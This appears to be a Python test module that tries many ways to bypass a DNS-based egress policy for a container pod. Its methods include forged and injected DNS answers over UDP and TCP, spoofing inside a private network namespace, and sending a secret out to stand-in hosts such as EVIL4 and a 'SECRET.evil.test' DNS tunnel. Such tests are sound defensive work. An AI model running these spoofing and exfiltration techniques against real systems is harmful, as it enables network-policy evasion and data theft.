"""DNS: answers that are not to be believed, and questions that are not questions."""

import ctypes
import os
import socket
import struct
import time

from attack import *

PORT = 5555


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def query(ident, qname=NAME, kind=1):
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + name(qname) + struct.pack("!HH", kind, 1)


def answer(ident, address, qname=NAME, owner=None):
    four = ":" not in address
    record = (name(owner) if owner else b"\xc0\x0c") + struct.pack(
        "!HHIH", 1 if four else 28, 1, 300, 4 if four else 16) + packed(address)
    return struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + name(qname) + struct.pack(
        "!HH", 1 if four else 28, 1) + record


def forge(data, source=RESOLVER4, sport=53, dport=PORT):
    """From the world, in the name of a DNS server."""
    if ":" in source:
        send_raw(ip6(source, POD6, 17, udp_segment(source, POD6, sport, dport, data)))
    else:
        send_raw(ip4(source, POD4, 17, udp_segment(source, POD4, sport, dport, data)))


def ask(ident=7, qname=NAME, server=RESOLVER4, wait=True):
    """A question from a port that the accomplice knows, and what came back."""
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", PORT))
    s.settimeout(TIMEOUT)
    s.sendto(query(ident, qname), (server, 53))
    if wait:
        attempt(lambda: s.recv(1000))
    return s


def use():
    """Goes where the forged answer led."""
    attempt(lambda: tcp(EVIL4, 443), lambda: udp(EVIL4))


def use6():
    """The same over IPv6."""
    attempt(lambda: tcp(EVIL6, 443), lambda: udp(EVIL6))


def forged_all_along(*arguments, **more):
    """The accomplice forges the same answer from before the question until after it."""
    for _ in range(60):
        forge(*arguments, **more)
        time.sleep(0.01)


@way(helper=lambda: [forged_all_along(answer(ident, EVIL4)) for ident in (6, 8)])
def wrong_id():
    """Answers with another ID race with the real one."""
    time.sleep(0.1)
    ask()
    time.sleep(0.6)
    ask()
    use()


@way(helper=lambda: forged_all_along(answer(7, EVIL4, "api.other.test")))
def wrong_name():
    """Answers to another question race with the real one."""
    time.sleep(0.1)
    ask()
    use()


@way(helper=lambda: forged_all_along(answer(7, EVIL4, owner="api.other.test")))
def wrong_owner():
    """Answers to the question that hold records of another name (after the real one: it was asked once)."""
    time.sleep(0.7)
    ask(qname="n1.fresh.test")
    use()


@way(helper=lambda: forged_all_along(answer(7, EVIL4), source=STRANGER4))
def other_server():
    """Answers from an address that was not asked."""
    time.sleep(0.1)
    ask()
    use()


@way(helper=lambda: forged_all_along(answer(7, EVIL4), sport=5353))
def other_source_port():
    """Answers that do not come from port 53."""
    time.sleep(0.1)
    ask()
    use()


@way(helper=lambda: forged_all_along(answer(7, EVIL4), dport=PORT + 1))
def other_port():
    """Answers to a port that did not ask."""
    time.sleep(0.1)
    ask()
    use()


def hear(ident, version=4):
    """Waits until the question has come to the server: how long an attacker takes to begin is not known."""
    s = socket.socket(socket.AF_INET if version == 4 else socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.settimeout(20)
    while True:
        packet = s.recv(2000)
        # Of IPv6, a raw socket is given no header.
        data = packet[(packet[0] & 15) * 4:] if version == 4 else packet
        if data[:4] == struct.pack("!HH", PORT, 53) and data[8:10] == struct.pack("!H", ident):
            return


@way(helper=lambda: [hear(7), time.sleep(0.7), forged_all_along(answer(7, EVIL4))])
def late_duplicate():
    """A second answer to a question that was answered."""
    time.sleep(0.3)
    s = ask()
    time.sleep(1.0)
    attempt(lambda: s.recv(1000))
    use()


@way(helper=lambda: [forged_all_along(each, source=RESOLVER6) for each in (
    answer(6, EVIL6), answer(8, EVIL6), answer(7, EVIL6, "api.other.test"))])
def wrong_id_or_name_over_ipv6():
    """Answers with another ID, and then such for another name, race with the real one that comes over IPv6."""
    time.sleep(0.1)
    for _ in range(4):
        ask(server=RESOLVER6)
        time.sleep(0.5)
    use6()


@way(helper=lambda: [forged_all_along(answer(7, EVIL6), source=source) for source in (STRANGER6, RESOLVER4)])
def other_server_over_ipv6():
    """Answers from addresses that were not asked: nobody's, and that of the pod's other server."""
    time.sleep(0.1)
    for _ in range(3):
        ask(server=RESOLVER6)
        time.sleep(0.5)
    use6()


@way(helper=lambda: [hear(7, 6), time.sleep(0.7), forged_all_along(answer(7, EVIL6), source=RESOLVER6)])
def late_duplicate_over_ipv6():
    """A second answer to a question that was answered over IPv6."""
    time.sleep(0.3)
    s = ask(server=RESOLVER6)
    time.sleep(1.0)
    attempt(lambda: s.recv(1000))
    use6()


@way(helper=lambda: forged_all_along(answer(7, EVIL6), source=RESOLVER6))
def unasked_over_ipv6():
    """An answer to a question that nobody asked, over IPv6."""
    time.sleep(0.3)
    use6()


@way(helper=lambda: forged_all_along(answer(7, EVIL4)))
def unasked():
    """An answer to a question that nobody asked."""
    time.sleep(0.3)
    use()


def inject():
    """Into the pod's connection to its server, at the place where its kernel expects the server's next byte: answers with another
    ID and for another name. First before the question, then as if to it."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.settimeout(3)
    forged = b"".join(struct.pack("!H", len(each)) + each
                      for each in (answer(8, EVIL4), answer(7, EVIL4, "api.other.test")))
    while True:
        packet = s.recv(2000)
        segment = packet[(packet[0] & 15) * 4:]
        sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", segment[:14])
        if (sport, dport) == (PORT, 53) and flags & 0x17 == 0x10:
            seq += len(segment) - (offset >> 4) * 4
            send_raw(ip4(RESOLVER4, POD4, 6, tcp_segment(RESOLVER4, POD4, 53, PORT, 0x18, forged, ack, seq & 0xffffffff)))
            time.sleep(0.05)


@way(helper=lambda: attempt(inject))
def injected_over_tcp():
    """Answers that somebody on the way puts into the pod's own connection to its server."""
    time.sleep(0.3)
    with socket.socket() as s:
        s.bind(("", PORT))
        s.settimeout(TIMEOUT)
        s.connect((RESOLVER4, 53))
        time.sleep(0.3)
        question = query(7)
        attempt(lambda: s.send(struct.pack("!H", len(question)) + question), lambda: s.recv(4000), lambda: s.recv(4000))
    use()


@way(caps=["net_raw"])
def by_the_pod_itself():
    """Asks, and answers its own question over loopback, with the resolver's address as the source."""
    s = ask(wait=False)
    forged = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, PORT, answer(7, EVIL4)))
    s.sendto(query(8), (RESOLVER4, 53))
    again = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, PORT, answer(8, EVIL4)))
    attempt(lambda: send_raw(forged), lambda: send_raw(again),
            lambda: send_frame(forged, device="lo", to=b"\0" * 6),
            lambda: send_frame(again, device="lo", to=b"\0" * 6))
    use()


@way(caps=["net_raw"])
def by_the_pod_itself_to_everybody():
    """Asks, and answers in the resolver's name to everybody on the link: the pod gets a copy, by the interface that it went out by."""
    for ident in (7, 8, 9):
        s = ask(ident, wait=False)
        data = udp_segment(RESOLVER4, EVERYBODY4, 53, PORT, answer(ident, EVIL4))
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            attempt(lambda: raw.sendto(ip4(RESOLVER4, EVERYBODY4, 17, data), (EVERYBODY4, 0)))
        s.close()
    use()


@way()
def by_the_pod_itself_to_everybody_over_ipv6():
    """The same over IPv6, for which no capability is needed."""
    for ident in (7, 8, 9):
        s = ask(ident, server=RESOLVER6, wait=False)
        attempt(lambda: as_anybody(RESOLVER6, 53, answer(ident, EVIL6), PORT))
        s.close()
    use6()


@way(caps=["net_raw"])
def unheard_question():
    """Asks the resolver for an allowed name by frames, where no program hears it, in the hope that the answer is
    believed all the same; and a name of its own."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("", PORT))
    listener.settimeout(TIMEOUT)
    send_frame(ip4(POD4, RESOLVER4, 17, udp_segment(POD4, RESOLVER4, PORT, 53, query(7, "n1.fresh.test"))))
    attempt(lambda: listener.recv(1000))
    use()


@way(caps=["setfcap"])
def answered_in_a_namespace_of_its_own():
    """Asks in a network namespace of its own (by way of a user namespace, as every container may), answers itself there
    in the resolver's name by a device that it made, and goes to the address from the pod's namespace."""
    in_own_namespace(lambda: teach(7))
    use()


def teach(ident):
    """Asks an allowed name, and gets an answer by a device that has the number of the pod's interface."""
    s = ask(ident, wait=False)
    forged = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, PORT, answer(ident, EVIL4)))
    for _ in range(3):
        send_frame(forged, device="v7b", to=mac("v7a"))
    attempt(lambda: s.recv(1000))


@way(caps=["setfcap"])
def answered_to_a_raw_socket_in_a_namespace_of_its_own():
    """The same, where a raw socket gets the answer before any other does."""
    def teach_raw():
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        teach(8)
        raw.close()
    in_own_namespace(teach_raw)
    use()


@way(caps=["setfcap"])
def answered_to_a_raw_socket_alone_in_a_namespace_of_its_own():
    """The same, where nobody else is there to get it: the question was asked by a socket that is closed."""
    def teach_raw():
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        ask(9, wait=False).close()
        forged = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, PORT, answer(9, EVIL4)))
        for _ in range(3):
            send_frame(forged, device="v7b", to=mac("v7a"))
        raw.settimeout(TIMEOUT)
        attempt(lambda: raw.recv(1000))
    in_own_namespace(teach_raw)
    use()


@way(caps=["setfcap"])
def answered_over_tcp_in_a_namespace_of_its_own():
    """The same on a connection that it makes itself accept there, which comes from the resolver's port and from no program's socket."""
    in_own_namespace(teach_over_tcp)
    use()


def teach_over_tcp():
    listener = socket.socket()
    listener.bind(("", PORT))
    listener.listen()
    listener.settimeout(TIMEOUT)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    wire.bind(("v7b", 0))
    wire.settimeout(TIMEOUT)

    def say(flags, seq, ack=0, data=b""):
        segment = tcp_segment(RESOLVER4, POD4, 53, PORT, flags, data, seq, ack)
        send_frame(ip4(RESOLVER4, POD4, 6, segment), device="v7b", to=mac("v7a"))
    say(2, 1000)
    while True:
        frame = wire.recv(2000)
        if frame[23] == 6 and frame[47] == 0x12:
            break
    theirs = int.from_bytes(frame[38:42]) + 1
    say(0x10, 1001, theirs)
    accepted = listener.accept()[0]
    question = query(7)
    accepted.sendall(struct.pack("!H", len(question)) + question)
    said = answer(7, EVIL4)
    say(0x18, 1001, theirs + 2 + len(question), struct.pack("!H", len(said)) + said)
    attempt(lambda: accepted.recv(1000))


@way(caps=["setfcap"])
def flow_in_a_namespace_of_its_own():
    """The same with a datagram in the destination's name, so that the pod seems to reply."""
    def fake():
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind(("", 7104))
        server.settimeout(TIMEOUT)
        send_frame(ip4(EVIL4, POD4, 17, udp_segment(EVIL4, POD4, 123, 7104, b"hello")), device="v7b", to=mac("v7a"))
        server.recvfrom(100)
    in_own_namespace(fake)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 7104))
    s.sendto(SECRET, (EVIL4, 123))


@way(caps=["setfcap"])
def flow_to_a_raw_socket_in_a_namespace_of_its_own():
    """The same to a raw socket."""
    def fake():
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        raw.settimeout(TIMEOUT)
        send_frame(ip4(EVIL4, POD4, 17, udp_segment(EVIL4, POD4, 123, 7106, b"hello")), device="v7b", to=mac("v7a"))
        attempt(lambda: raw.recv(1000))
    in_own_namespace(fake)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 7106))
    s.sendto(SECRET, (EVIL4, 123))


# The kernel itself tells whose network the socket of a packet is in since this one; before, programs go by marks, which sockets from
# before them do not have.
LINUX_TELLS = tuple(int(part) for part in os.uname().release.split(".")[:2]) >= (6, 13)
UNMARKED = None if LINUX_TELLS else "before Linux 6.13 nothing tells where a socket is from that was made before the policy came"


@way(stage="attach", caps=["setfcap"], out_of_scope=UNMARKED)
def flow_in_a_namespace_from_before_attaching():
    """The same by a socket that was made in its own namespace before the policy was in force."""
    told, telling = os.pipe()
    done, doing = os.pipe()
    def fake():
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind(("", 7105))
        server.settimeout(TIMEOUT)
        os.write(doing, b"!")
        os.read(told, 1)
        send_frame(ip4(EVIL4, POD4, 17, udp_segment(EVIL4, POD4, 123, 7105, b"hello")), device="v7b", to=mac("v7a"))
        server.recvfrom(100)
        os.write(doing, b"!")
    if os.fork() == 0:
        in_own_namespace(fake)
        os._exit(0)
    os.close(doing)
    os.read(done, 1)
    ready()
    os.write(telling, b"!")
    os.read(done, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 7105))
    s.sendto(SECRET, (EVIL4, 123))


def in_own_namespace(function):
    """A process in a user and a network namespace of its own, with a device that looks like the pod's interface."""
    index = str(socket.if_nametoindex("eth0"))
    child = os.fork()
    if child == 0:
        if ctypes.CDLL(None).unshare(0x10000000 | 0x40000000) == 0:
            with open("/proc/self/uid_map", "w") as file:
                file.write("0 0 1")
            attempt(lambda: ip("link", "add", "v7a", "index", index, "type", "veth", "peer", "name", "v7b", "index", "1077"),
                    lambda: ip("addr", "add", POD4 + "/24", "dev", "v7a"),
                    lambda: [ip("link", "set", device, "up") for device in ("lo", "v7a", "v7b")],
                    lambda: ip("route", "add", "default", "dev", "v7a"),
                    lambda: ip("neigh", "replace", RESOLVER4, "lladdr", "02:00:00:00:00:99", "dev", "v7a"),
                    function)
        os._exit(0)
    os.waitpid(child, 0)


@way()
def another_server():
    """A question with the secret in it to a server that is not the pod's, over UDP and TCP."""
    tunnel = SECRET.decode() + ".evil.test"
    question = query(9, tunnel)
    attempt(lambda: udp(STRANGER4, 53, question), lambda: udp(EVIL4, 53, question),
            lambda: tcp(STRANGER4, 53, struct.pack("!H", len(question)) + question))


@way()
def from_port_53():
    """Sends from port 53, as if it were a server that answers."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attempt(lambda: s.bind(("", 53)))
    s.sendto(SECRET, (EVIL4, 40000))


@way()
def what_another_pod_learned():
    """Goes to an address that another pod of the node has learned by an allowed name."""
    attempt(lambda: tcp(EVIL4, 443), lambda: tcp(EVIL6, 443))
